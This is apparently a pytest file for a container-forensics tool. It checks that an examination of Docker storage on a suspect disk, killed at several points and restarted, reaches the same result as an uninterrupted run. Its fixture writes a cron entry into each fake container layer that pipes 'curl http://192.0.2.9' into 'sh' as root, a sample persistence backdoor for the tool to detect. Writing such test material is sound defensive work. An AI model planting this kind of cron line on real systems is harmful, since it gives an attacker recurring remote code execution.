"""A run that is killed while it looks into containers goes on, and says the same in the end."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

SOURCE = Path(__file__).parents[2] / "src"
STORAGE = "var/lib/docker"
CONTAINERS = 2
OPTIONS = ("--json", "--quiet", "--jobs", "1")

Moment = Callable[[Path], bool]


def write(root: Path, path: str, content: bytes) -> None:
    place = root / path
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_bytes(content)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    place = tmp_path / "suspect"
    for number in range(CONTAINERS):
        name = f"{number:064x}"
        told = {"ID": name, "Name": f"/c{number}", "Driver": "overlay2", "Config": {}}
        write(place, f"{STORAGE}/containers/{name}/config.v2.json", json.dumps(told).encode())
        layer = f"{STORAGE}/overlay2/m{number}"
        write(place, f"{STORAGE}/image/overlay2/layerdb/mounts/{name}/mount-id", b"m%d" % number)
        write(place, f"{layer}/diff/etc/cron.d/x", b"* * * * * root curl http://192.0.2.9 | sh\n")
        for file in range(200):
            write(place, f"{layer}/diff/srv/{file}", b"%d\n" % file)
    return place


def started(root: Path, case: Path) -> subprocess.Popen[bytes]:
    return subprocess.Popen(
        [sys.executable, "-m", "pratique", "examine", root, "--case", case, *OPTIONS],
        env={**os.environ, "PYTHONPATH": os.pathsep.join(map(str, [SOURCE, *sys.path]))},
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )


def whole(root: Path, case: Path) -> tuple[int, list[str]]:
    process = started(root, case)
    out, _err = process.communicate()
    return process.returncode, out.decode().splitlines()[:-1]


def surveys(case: Path) -> int:
    return len(list(case.rglob("parts.jsonl")))


def concluded(case: Path) -> int:
    return len(list(case.rglob("verdict")))


# The survey of the machine comes first, those of its containers behind it.
MOMENTS: tuple[Moment, ...] = (
    lambda case: surveys(case) >= 2,
    lambda case: surveys(case) >= 1 + CONTAINERS,
    lambda case: concluded(case) >= 2,
)


def test_killed_and_started_again(root, tmp_path):
    undisturbed = whole(root, tmp_path / "undisturbed")
    assert any('"container"' in line for line in undisturbed[1])
    case = tmp_path / "case"
    killed = []
    for moment in MOMENTS:
        process = started(root, case)
        while not moment(case) and process.poll() is None:
            time.sleep(0.001)
        process.kill()
        process.communicate()
        killed.append(process.returncode)
    assert killed == [-signal.SIGKILL] * len(MOMENTS)
    assert whole(root, case) == undisturbed
